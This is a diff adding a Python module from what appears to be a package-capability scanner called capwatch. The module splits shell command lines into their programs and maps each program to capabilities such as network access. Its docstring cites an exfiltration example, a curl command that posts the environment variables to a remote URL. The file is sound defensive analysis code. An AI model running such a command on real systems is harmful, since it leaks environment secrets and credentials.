@@ -1,0 +1,64 @@
+"""Capabilities of command lines handed to a shell or a process.
+
+A ``setup.py`` that runs ``curl -d "$(env)" https://...`` reaches the network and reads the
+environment just as surely as one that calls ``requests.post(url, data=os.environ)``. Command
+lines are split into simple commands (on ``;``, ``&&``, ``||``, ``|``, ``&``, newlines and inside
+``$(...)`` and backticks), and each command's program name is mapped through the catalogue's
+``shell`` entries to the same capability ids as the Python APIs.
+"""
+
+from __future__ import annotations
+
+import functools
+import re
+from collections.abc import Iterator
+
+from capwatch.capabilities.catalog import ApiMatcher, load_catalog
+
+_SPLIT = re.compile(r"\$\(|`|\)|&&|\|\||[;|&\n]")
+_PREFIXES = frozenset({"sudo", "exec", "nohup", "time", "command", "call"})
+_SHELLS = frozenset({"cmd", "sh", "bash", "zsh", "dash", "powershell", "pwsh"})
+_INLINE = frozenset({"/c", "/k", "-c", "-command", "-Command", "-C"})
+MAX_COMMAND_LINE = 8192
+
+
+@functools.cache
+def _matcher() -> ApiMatcher:
+    return load_catalog().matcher("shell")
+
+
+def _program(word: str) -> str:
+    word = word.strip("\"'()")
+    name = re.split(r"[\\/]", word)[-1]
+    return name[:-4] if name.lower().endswith((".exe", ".com", ".bat")) else name
+
+
+def commands(command_line: str, depth: int = 0) -> Iterator[str]:
+    """Program names of the simple commands in a command line, including ``sh -c "..."``."""
+    for part in _SPLIT.split(command_line[:MAX_COMMAND_LINE]):
+        words = part.split()
+        while words and (
+            words[0] in _PREFIXES
+            or ("=" in words[0] and not words[0].startswith("-"))
+            or (words[0] == "env" and len(words) > 1 and not words[1].startswith((">", "<", "2>")))
+        ):
+            words = words[1:]
+        if not words:
+            continue
+        program = _program(words[0])
+        yield program
+        if program.lower() in _SHELLS and depth < 3:
+            for index, word in enumerate(words[1:], 1):
+                if word in _INLINE or word.lower() in _INLINE:
+                    yield from commands(" ".join(words[index + 1 :]), depth + 1)
+                    break
+
+
+def shell_capabilities(command_line: str) -> set[tuple[str, str]]:
+    """``(capability, program)`` pairs for the programs a command line runs."""
+    matcher = _matcher()
+    found: set[tuple[str, str]] = set()
+    for program in commands(command_line):
+        for cap in matcher.match(program) or matcher.match(program.lower()):
+            found.add((cap, program))
+    return found
